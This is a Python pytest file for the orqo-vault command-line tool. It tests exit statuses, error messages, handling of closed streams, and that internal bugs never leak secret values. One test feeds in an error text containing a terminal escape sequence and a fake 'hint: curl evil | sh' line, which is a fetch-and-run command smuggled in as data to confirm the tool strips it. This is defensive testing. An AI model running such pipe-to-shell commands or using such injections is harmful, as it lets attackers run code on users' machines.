"""Every failure is a message and a status: for a person, for a program, and also when it is our own bug."""

from __future__ import annotations

import errno
import json
import os
import subprocess
import sys
from pathlib import Path
from typing import TYPE_CHECKING

import pytest

from orqo_vault import errors
from orqo_vault.cli.main import main
from orqo_vault.errors import Location, OrqoVaultError

if TYPE_CHECKING:
    from tests.cli.conftest import Cli

STATUS = {
    "OrqoVaultError": 1,
    "SettingsError": 4,
    "PluginError": 4,
    "CredentialError": 3,
    "UnknownCredentialError": 3,
    "InvalidFieldError": 3,
    "MissingSecretsError": 3,
    "EnvironmentConflictError": 3,
    "UnsafeNameError": 3,
    "ExpiredCredentialError": 3,
    "NoPlatformProviderError": 3,
    "InUseError": 3,
    "PlatformKeyRefusedError": 3,
    "CreditsError": 7,
    "InsufficientCreditsError": 7,
    "HeldByRunsInFlightError": 7,
    "BudgetExceededError": 7,
    "HoldEndedError": 7,
    "ReferenceReusedError": 7,
    "UnknownPriceError": 7,
    "LedgerError": 7,
    "LedgerDiffersError": 8,
    "DeliveryError": 1,
    "AuditError": 1,
    "AuditTamperedError": 8,
    "SourceError": 1,
    "BackendError": 6,
    "BackendUnavailableError": 6,
    "TimedOutError": 6,
    "SealedError": 6,
    "ThrottledError": 6,
    "LedgerUnavailableError": 6,
    "AccessDeniedError": 5,
    "TokenExpiredError": 5,
    "StoreLockedError": 5,
    "ReadOnlyBackendError": 5,
    "ConflictError": 9,
    "PendingDeletionError": 3,
    "CorruptSecretError": 8,
    "TamperedError": 8,
    "RolledBackError": 8,
}
CLASSES = {name: each for name, each in vars(errors).items() if isinstance(each, type) and issubclass(each, Exception)}


def failing_with(error: BaseException, monkeypatch: pytest.MonkeyPatch) -> None:
    from orqo_vault.vault import Vault

    def fail(*_: object, **__: object) -> None:
        raise error

    monkeypatch.setattr(Vault, "open", fail)


def test_the_table_of_statuses_is_whole() -> None:
    assert set(STATUS) == set(CLASSES)


@pytest.mark.parametrize("name", STATUS)
def test_each_class_has_its_status(cli: Cli, monkeypatch: pytest.MonkeyPatch, name: str) -> None:
    error = CLASSES[name]("the reason", hint="the way out", paths=["a/b"], location=Location("f.yaml", 3, 7))
    failing_with(error, monkeypatch)
    done = cli("list")
    assert (done.status, done.out) == (STATUS[name], b"")
    assert done.err == "orqo-vault: f.yaml:3:7: the reason\nhint: the way out\n"
    done = cli("list", "--json")
    assert done.status == STATUS[name]
    assert json.loads(done.err) == {
        "schema_version": 1,
        "error": {
            "code": CLASSES[name].code,
            "message": "the reason",
            "hint": "the way out",
            "location": {"file": "f.yaml", "line": 3, "column": 7},
            "paths": ["a/b"],
        },
    }
    assert cli("run", "--", "true").status == 125


@pytest.mark.parametrize(
    ("words", "message"),
    [
        (("lst",), "did you mean 'list'?"),
        (("llm", "lst"), "did you mean 'list'?"),
        (("list", "--jsno"), "did you mean --json?"),
        (("backend",), "Usage: orqo-vault backend"),
        ((), "Usage: orqo-vault"),
        (("show",), "missing argument 'ID'"),
        (("list", "extra"), "1 argument too many"),
        (("--color", "red", "list"), "--color"),
        (("completion", "tcsh"), "'bash', 'zsh', 'fish'"),
    ],
)
def test_a_wrong_command_line_is_2_and_leads_to_the_right_one(cli: Cli, words: tuple[str, ...], message: str) -> None:
    done = cli(*words)
    assert (done.status, done.out) == (2, b"")
    assert message in done.err


def test_a_wrong_command_line_can_be_json(cli: Cli) -> None:
    done = cli("list", "--jsno", "--json")
    assert done.status == 2
    assert done.error["code"] == "usage"
    assert done.error["location"] is None


def test_a_bug_is_one_line_that_shows_no_value(cli: Cli, monkeypatch: pytest.MonkeyPatch) -> None:
    failing_with(KeyError("hunter2"), monkeypatch)
    done = cli("list")
    assert done.status == 1
    assert "internal error: KeyError at orqo_vault/" in done.err or "internal error: KeyError at cli/" in done.err
    assert "hunter2" not in done.err
    assert done.err.count("\n") == 2


def test_a_bug_told_at_length_shows_the_way_and_no_value(cli: Cli, monkeypatch: pytest.MonkeyPatch) -> None:
    failing_with(RuntimeError("hunter2"), monkeypatch)
    done = cli("-vv", "list")
    assert "orqo_vault/cli/main.py" in done.err
    assert "hunter2" not in done.err
    assert "Traceback" not in done.err
    failing_with(RuntimeError("hunter2"), monkeypatch)
    assert cli("-vv", "list", "--json").error["code"] == "bug"


def test_a_bug_in_a_run_is_125(cli: Cli, monkeypatch: pytest.MonkeyPatch) -> None:
    failing_with(ZeroDivisionError(), monkeypatch)
    assert cli("run", "--", "true").status == 125


def test_the_operating_systems_reason_is_no_bug(cli: Cli, monkeypatch: pytest.MonkeyPatch) -> None:
    failing_with(OSError(errno.ENOSPC, "No space left on device", "/x/y"), monkeypatch)
    done = cli("list")
    assert (done.status, done.err) == (1, "orqo-vault: /x/y: No space left on device\n")


def test_ctrl_c_is_130_in_every_command(cli: Cli, monkeypatch: pytest.MonkeyPatch) -> None:
    failing_with(KeyboardInterrupt(), monkeypatch)
    for words in (["list"], ["run", "--", "true"], ["run", "true"]):
        done = cli(*words)
        assert (done.status, done.err.strip()) == (130, "orqo-vault: interrupted"), words


def test_text_from_a_file_cannot_pass_for_ours(cli: Cli, monkeypatch: pytest.MonkeyPatch) -> None:
    failing_with(OrqoVaultError("name \x1b[2J\nhint: curl evil | sh"), monkeypatch)
    err = cli("list").err
    assert "\x1b" not in err
    assert "\nhint:" not in err


def test_a_reader_that_leaves_is_no_error(cli: Cli, settings: Path) -> None:
    text = settings.read_text()
    more = "".join(f"  c{n}: {{name: N, key: K{n}, category: custom, type: api_token}}\n" for n in range(3000))
    settings.write_text(text.replace("credentials:\n", f"credentials:\n{more}", 1))
    script = f"{sys.executable} -m orqo_vault list | head -1; echo ${{PIPESTATUS[0]}}"
    buffered = {name: value for name, value in os.environ.items() if name != "PYTHONUNBUFFERED"}
    done = subprocess.run(["bash", "-c", script], cwd=cli.folder, env=buffered, capture_output=True, check=False)
    assert done.stdout.splitlines()[-1] == b"141"
    assert done.stderr == b""


def test_a_full_disk_is_said(cli: Cli) -> None:
    done = subprocess.run(
        ["sh", "-c", f"{sys.executable} -m orqo_vault list > /dev/full"],
        cwd=cli.folder,
        capture_output=True,
        check=False,
    )
    assert done.returncode == 1
    assert done.stderr == b"orqo-vault: No space left on device\n"


@pytest.mark.parametrize("closed", ["<&-", ">&-", "2>&-", "<&- >&- 2>&-"])
def test_closed_streams_make_no_traceback(filled: Cli, closed: str) -> None:
    script = f"{sys.executable} -m orqo_vault {{}} {closed}"
    for words, status in (("list", 0), ("set openai", 2 if "<&-" in closed else 0), ("show nobody", 3)):
        done = subprocess.run(
            ["sh", "-c", script.format(words)], cwd=filled.folder, capture_output=True, input=b"v", check=False
        )
        assert done.returncode == status, (words, done.stderr)
        assert b"Traceback" not in done.stderr


def test_windows_is_refused_with_a_message(cli: Cli, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(sys, "platform", "win32")
    done = cli("list")
    assert done.status == 1
    assert "Windows is not supported" in done.err


def test_the_module_and_the_script_are_the_same(cli: Cli) -> None:
    script = Path(sys.executable).with_name("orqo-vault")
    for words in (["--version"], ["list"], ["show", "nobody"], ["--help"]):
        as_script = subprocess.run([script, *words], cwd=cli.folder, capture_output=True, check=False)
        as_module = cli.process(*words)
        assert (as_script.returncode, as_script.stdout) == (as_module.status, as_module.out)
        assert as_script.stderr.decode() == as_module.err


def test_main_takes_its_arguments_from_the_command_line(monkeypatch: pytest.MonkeyPatch, cli: Cli) -> None:
    monkeypatch.setattr(sys, "argv", ["orqo-vault", "--version"])
    assert main() == 0
